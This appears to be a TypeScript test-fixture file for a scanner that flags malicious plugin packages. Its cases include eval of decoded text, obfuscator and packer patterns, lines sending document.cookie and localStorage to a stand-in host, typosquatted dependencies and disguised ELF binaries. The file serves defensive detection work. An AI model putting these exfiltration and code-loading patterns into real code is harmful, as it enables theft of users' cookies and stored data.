import { base64, joined, webhook, type Case } from './pack-of.ts'

const script = (rule: string, name: string, ...lines: string[]): Case => ({
  name,
  rule,
  files: { '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/main.js': `${lines.join('\n')}\n` },
})
const requirement = (name: string, line: string): Case => ({
  name,
  rule: 'dependency-known-bad',
  files: { '__init__.py': '', 'requirements.txt': `# needed\n${line}\n` },
})
const file = (rule: string, path: string, name: string, bytes: number[]): Case => ({
  name,
  rule,
  files: { '__init__.py': '', [path]: Uint8Array.from([...bytes, ...Array.from({ length: 64 }, () => 0)]) },
})

const elf = [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]
const names = Array.from({ length: 12 }, (_, index) => `_0x${(0x3f2a0 + index).toString(16)}`)

/** Malicious scripts, dependencies and files. */
export const otherMalice: Case[] = [
  script('javascript-code-from-data', 'eval of atob', `eval(atob("${base64('1 + 1')}"))`),
  script(
    'javascript-code-from-data',
    'eval under another name',
    'const run = window["ev" + "al"]',
    `const text = atob("${base64('1 + 1')}")`,
    'run(text)',
  ),
  script('javascript-code-from-data', 'a function of characters', 'new Function(String.fromCharCode(49, 43, 49))()'),
  script(
    'javascript-code-from-data',
    'eval of what is fetched',
    'const text = await (await fetch("https://stage.example/x")).text()',
    'eval(text)',
  ),
  script(
    'javascript-code-from-data',
    'text that is decoded later',
    'let text',
    `text = atob("${base64('1 + 1')}")`,
    'eval(text)',
  ),
  script('javascript-code-from-data', 'a timer of decoded text', `setTimeout(atob("${base64('1 + 1')}"), 10)`),
  script(
    'javascript-code-from-data',
    'a script that is put together',
    'const s = document.createElement("script")',
    `s.textContent = atob("${base64('1 + 1')}")`,
    'document.body.append(s)',
  ),
  script(
    'javascript-code-from-data',
    'a module out of an address',
    `import("data:text/javascript;base64,${base64('1')}")`,
  ),
  script('javascript-obfuscated', 'names of an obfuscator', ...names.map((name, index) => `const ${name} = ${index}`)),
  script(
    'javascript-obfuscated',
    'a packer',
    joined('eval(func', 'tion(p,a,c,k,e,d){return p}("0",1,1,"x".split("|"),0,{}))'),
  ),
  script('javascript-obfuscated', 'signs alone', '[][(![]+[])[+[]]]'.repeat(60)),
  script('javascript-obfuscated', 'escapes alone', `const t = ["${'\\x61\\x62\\x63\\x64'.repeat(40)}"]`),
  script('javascript-sends-data', 'cookies', 'fetch("https://drop.example/?c=" + document.cookie)'),
  script(
    'javascript-sends-data',
    'the whole storage',
    'const all = JSON.stringify(localStorage)',
    'navigator.sendBeacon("https://drop.example", all)',
  ),
  script(
    'javascript-sends-data',
    'cookies in a picture’s address',
    'new Image().src = "https://drop.example/?" + document.cookie',
  ),
  script('data-to-webhook', 'a webhook', `fetch("${webhook}", { method: "POST" })`),
  requirement('an attacked version', joined('ultra', 'lytics==8.3.41')),
  requirement('a name in two spellings', joined('colou', 'rama')),
  requirement('a letter too many', 'requestss>=2'),
  requirement('letters swapped', 'transfromers'),
  requirement('a reported name', joined('torch', 'triton==2.0')),
  {
    name: 'in pyproject.toml',
    rule: 'dependency-known-bad',
    files: {
      '__init__.py': '',
      'pyproject.toml': `[project]\nname = "x"\ndependencies = [\n  "numpy",\n  "${joined('lite', 'llm==1.82.8')}",\n]\n`,
    },
  },
  file('disguised-binary', 'web/icon.png', 'a program named as a picture', elf),
  file('disguised-binary', 'notes.txt', 'a program named as a text', elf),
  file('bytecode-without-source', 'nodes.pyc', 'compiled code alone', [0xcb, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0]),
  file(
    'bytecode-without-source',
    '__pycache__/__init__.cpython-312.pyc',
    'compiled code that is used unseen',
    [0xcb, 0x0d, 0x0d, 0x0a, 1, 0, 0, 0],
  ),
  {
    name: 'a source that was not read',
    rule: 'source-too-large',
    files: { '__init__.py': 'x', 'big.py': new Uint8Array(100).fill(65) },
  },
  {
    name: 'a source that is none',
    rule: 'source-unreadable',
    files: { '__init__.py': `${'))) ((( ]]] \u0001 '.repeat(50)}\n` },
  },
]
